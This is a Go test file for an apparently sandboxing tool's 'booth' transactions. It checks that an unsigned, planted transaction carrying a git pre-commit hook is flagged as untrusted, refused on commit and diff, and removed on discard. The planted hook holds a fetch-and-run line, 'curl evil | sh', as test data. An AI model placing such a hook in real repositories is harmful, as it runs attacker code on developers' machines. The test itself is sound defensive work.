package main

import (
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/jukebox-os/jukebox/sandbox"
)

// plantTx writes what a cloned repository could carry: an open booth
// transaction, without a journal, whose staging area holds a git hook.
// Its tx.json is as an earlier release wrote them (no MAC).
func plantTx(t *testing.T, ws, id string) {
	t.Helper()
	dir := filepath.Join(ws, ".jukebox", "booth", id)
	hooks := filepath.Join(dir, "upper", ".git", "hooks")
	if err := os.MkdirAll(hooks, 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(filepath.Join(hooks, "pre-commit"), []byte("#!/bin/sh\ncurl evil | sh\n"), 0o755); err != nil {
		t.Fatal(err)
	}
	meta := `{"id":"` + id + `","workspace":"` + ws + `","created":"2024-01-01T00:00:00Z","begin_ctime_ns":1}`
	if err := os.WriteFile(filepath.Join(dir, "tx.json"), []byte(meta), 0o644); err != nil {
		t.Fatal(err)
	}
}

// TestBoothPlantedTransaction: a planted transaction (an unsigned tx.json
// and a staging area with .git/hooks/pre-commit, no journal) is listed by
// booth status as untrusted, with the reason; booth commit, with or
// without --tx, refuses it and writes nothing; booth diff will not open
// it; it is never the default even when it is the only one; booth
// discard removes it.
func TestBoothPlantedTransaction(t *testing.T) {
	requireBooth(t)
	ws := t.TempDir()
	os.WriteFile(filepath.Join(ws, "a.txt"), []byte("a"), 0o644)
	os.MkdirAll(filepath.Join(ws, ".git", "hooks"), 0o755)
	const id = "tx-0000000000000003planted"
	plantTx(t, ws, id)
	hook := filepath.Join(ws, ".git", "hooks", "pre-commit")
	noHook := func(what string) {
		t.Helper()
		if _, err := os.Lstat(hook); !os.IsNotExist(err) {
			t.Fatalf("%s wrote the planted hook: %v", what, err)
		}
	}

	out, _, err := runBoothCLI(t, "booth", "status", "-C", ws)
	if err != nil || !strings.Contains(out, id) || !strings.Contains(out, "unauthenticated transaction") || !strings.Contains(out, "jukebox booth discard "+id) {
		t.Fatalf("status: %q %v", out, err)
	}
	out, _, err = runBoothCLI(t, "booth", "status", "-C", ws, "--json")
	if err != nil || !strings.Contains(out, `"untrusted": "unauthenticated transaction`) {
		t.Fatalf("status --json: %q %v", out, err)
	}
	for _, args := range [][]string{
		{"booth", "commit", "-C", ws},
		{"booth", "commit", "-C", ws, "--tx", id},
		{"booth", "diff", "-C", ws},
		{"booth", "diff", "-C", ws, "--tx", id},
	} {
		out, errOut, err := runBoothCLI(t, args...)
		if err == nil {
			t.Fatalf("%v succeeded: %q %q", args, out, errOut)
		}
		t.Logf("%v: %v", args, err)
		noHook(strings.Join(args, " "))
	}
	if _, _, err := runBoothCLI(t, "booth", "commit", "-C", ws); err == nil || !strings.Contains(err.Error(), "1 untrusted") {
		t.Errorf("commit without --tx: %v", err)
	}
	if _, _, err := runBoothCLI(t, "booth", "commit", "-C", ws, "--tx", id); err == nil || !strings.Contains(err.Error(), "never opened or committed") {
		t.Errorf("commit --tx: %v", err)
	}

	// Beside one of this jukebox's own, the planted one is not counted:
	// the default is the trusted one.
	tx, err := sandbox.Begin(ws, sandbox.Options{})
	if err != nil {
		t.Fatal(err)
	}
	if err := tx.Files().WriteFile("b.txt", []byte("b"), 0o644); err != nil {
		t.Fatal(err)
	}
	tx.Release() // as a run that ended with it kept
	out, _, err = runBoothCLI(t, "booth", "commit", "-C", ws)
	if err != nil || !strings.Contains(out, "committed "+tx.ID()) {
		t.Fatalf("commit of the trusted one: %q %v", out, err)
	}
	noHook("committing the trusted transaction")

	out, _, err = runBoothCLI(t, "booth", "discard", "-C", ws, id)
	if err != nil || !strings.Contains(out, "discarded "+id) {
		t.Fatalf("discard: %q %v", out, err)
	}
	if _, err := os.Stat(filepath.Join(ws, ".jukebox")); !os.IsNotExist(err) {
		t.Fatalf("state left after discard: %v", err)
	}
	noHook("discard")
}
